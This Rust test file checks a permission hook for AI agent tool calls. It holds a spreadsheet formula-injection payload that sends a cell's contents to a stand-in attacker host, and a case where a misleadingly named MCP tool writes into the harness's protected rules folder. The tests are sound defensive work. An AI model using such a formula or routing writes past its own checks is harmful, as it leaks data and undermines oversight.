//! Issue 53, the fourth hostile round's low findings, each against the built binary: a CSV export
//! that a spreadsheet would run as a formula, and an MCP tool whose name says it reads while its
//! arguments name a file in tlc's protected set.

use crate::common::World;
use serde_json::{json, Value};

fn pre_tool(w: &World, tool: &str, input: Value) -> Option<(String, String)> {
    let out = w.answer(
        "claude",
        &json!({"hook_event_name": "PreToolUse", "session_id": "s1", "cwd": w.repo, "tool_name": tool,
                "tool_use_id": "tu-1", "tool_input": input}),
    );
    if out.trim().is_empty() {
        return None;
    }
    let v: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("not JSON ({e}): {out}"));
    let h = &v["hookSpecificOutput"];
    Some((
        h["permissionDecision"].as_str()?.to_string(),
        h["permissionDecisionReason"].as_str().unwrap_or("").to_string(),
    ))
}

#[test]
fn a_csv_export_never_hands_a_spreadsheet_a_formula_and_raw_keeps_the_cell() {
    let w = World::new();
    let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"x")"#;
    w.answer(
        "claude",
        &json!({"hook_event_name": "PreToolUse", "session_id": "s1", "cwd": w.repo, "tool_name": "Bash",
                "tool_use_id": "tu-1", "tool_input": {"command": formula}}),
    );
    let csv = w.ok(&["obs", "export", "decision_log", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let detail = headers.iter().position(|h| h == "detail").expect("a detail column");
    let cells: Vec<String> = reader.records().map(|r| r.unwrap()[detail].to_string()).collect();
    assert_eq!(cells, [format!("'{formula}")], "{csv}");
    for cell in csv.split([',', '\n']) {
        assert!(
            !cell.trim_start_matches('"').starts_with(['=', '+', '@']),
            "a formula cell: {cell}\n{csv}"
        );
    }
    let raw = w.ok(&["obs", "export", "decision_log", "--format", "csv", "--raw"]);
    let mut reader = csv::Reader::from_reader(raw.as_bytes());
    let cells: Vec<String> = reader.records().map(|r| r.unwrap()[detail].to_string()).collect();
    assert_eq!(cells, [formula.to_string()], "{raw}");
    // A table's CSV neutralises the same cell.
    let why = w.ok(&["obs", "why", "--format", "csv"]);
    assert!(why.contains(&format!("'{}", formula.replace('"', "\"\""))), "{why}");
}

#[test]
fn an_mcp_tool_named_as_a_read_that_writes_the_protected_set_is_denied() {
    // Outside the temp folders, as a real home is: the file tools may write there.
    let w = World::outside_temp();
    let (permission, reason) = pre_tool(
        &w,
        "mcp__fs__fetch_and_save",
        json!({"url": "https://example.com/x.md", "path": ".tlc/harness/rules/x.md"}),
    )
    .expect("a decision");
    assert_eq!(permission, "deny", "{reason}");
    assert!(reason.contains(".tlc/harness/rules/x.md"), "{reason}");
    // A path argument of a write outside the project, as a Write there would be.
    let outside = w.dir.path().join("elsewhere.txt");
    let (permission, _) = pre_tool(
        &w,
        "mcp__fs__write_file",
        json!({"path": outside.to_string_lossy(), "content": "x"}),
    )
    .expect("a decision");
    assert_eq!(permission, "deny");
    // A read of a project file, and a write of one, are the tools' business.
    assert_ne!(
        pre_tool(&w, "mcp__fs__read_file", json!({"path": "src/a.rs"})).map(|d| d.0),
        Some("deny".into())
    );
    assert_ne!(
        pre_tool(
            &w,
            "mcp__fs__write_file",
            json!({"path": "notes.md", "content": "/etc/passwd is a file"})
        )
        .map(|d| d.0),
        Some("deny".into())
    );
}
